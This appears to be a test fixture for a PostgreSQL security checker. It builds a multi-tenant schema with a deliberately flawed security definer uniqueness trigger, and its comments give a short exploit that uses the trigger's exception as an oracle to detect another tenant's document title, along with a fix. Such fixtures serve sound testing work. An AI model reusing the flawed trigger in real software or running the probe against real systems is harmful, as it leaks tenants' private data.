-- verdict: leak
-- kind: check-trigger-oracle
-- object: public.no_twice
-- why: a definer trigger refuses titles that anyone has
-- severity: medium
-- also: public.docs
-- roles: app_owner app_user
-- exploit-begin
-- do $d$ begin insert into docs (tenant_id, title) values ('00000000-0000-4000-8000-00000000000b', 'A-SECRET'); exception when raise_exception then perform set_config('p.hit','t',false); end $d$;
-- select coalesce(current_setting('p.hit', true) = 't', false) as leaked;
-- exploit-end
-- fix-begin
-- create or replace function no_twice() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$ begin if exists (select 1 from public.docs where title = new.title and tenant_id = new.tenant_id) then raise exception 'taken'; end if; return new; end $$;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table docs (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  title text not null
);
insert into docs (tenant_id, title) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table docs enable row level security;
create policy tenant_isolation on docs using (tenant_id = current_setting('app.tenant_id', true)::uuid) with check (tenant_id = current_setting('app.tenant_id', true)::uuid);
grant select, insert, update, delete on docs to app_user;
create function no_twice() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$ begin if exists (select 1 from public.docs where title = new.title) then raise exception 'taken'; end if; return new; end $$;
create trigger no_twice before insert on docs for each row execute function no_twice();
reset role;
